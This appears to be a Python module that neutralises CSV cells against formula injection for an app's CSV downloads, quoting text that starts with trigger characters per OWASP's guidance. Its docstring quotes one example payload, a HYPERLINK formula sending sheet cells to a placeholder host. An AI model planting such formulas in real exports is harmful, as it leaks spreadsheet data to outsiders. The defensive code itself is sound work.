"""CSV cells that a spreadsheet will not run as formulas (CSV injection).

A member named `=HYPERLINK("http://host/leak?x="&A1, "x")` becomes a live
formula when a CSV holding that name is opened in Excel, LibreOffice or Google
Sheets: it can send the sheet's other cells to that host. OWASP's rule (CSV
Injection cheat sheet): a text cell that starts with `=`, `+`, `-`, `@`, a tab
or a carriage return gets a single quote in front, which spreadsheets show as
text and do not evaluate.

Only text cells are touched: numbers stay numbers (a negative count is a
number, not a formula, and must still add up in the sheet).
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Final

import pandas as pd

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
QUOTE: Final = "'"


def neutralise_cell(value: object) -> object:
    """`value` as a CSV cell no spreadsheet evaluates: text starting with a
    trigger character gets a leading single quote; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (and column names) are neutralised.

    Numeric, boolean and date columns are left as they are, dtype included.
    """
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise_cell)
    safe.columns = [neutralise_cell(name) for name in safe.columns]
    return safe


def safe_rows(rows: Iterable[Mapping[str, object]]) -> list[dict[str, object]]:
    """Table rows (e.g. for `st.dataframe`, whose toolbar writes a CSV) with
    every text cell neutralised; numbers untouched."""
    return [{key: neutralise_cell(value) for key, value in row.items()} for row in rows]


def csv_bytes(frame: pd.DataFrame, *, date_format: str = "%Y-%m-%d") -> bytes:
    """`frame` as UTF-8 CSV (header row, no index) with every text cell neutralised.

    The one way the app writes a CSV: use it for every download.
    """
    text: str = safe_frame(frame).to_csv(index=False, date_format=date_format)
    return text.encode("utf-8")
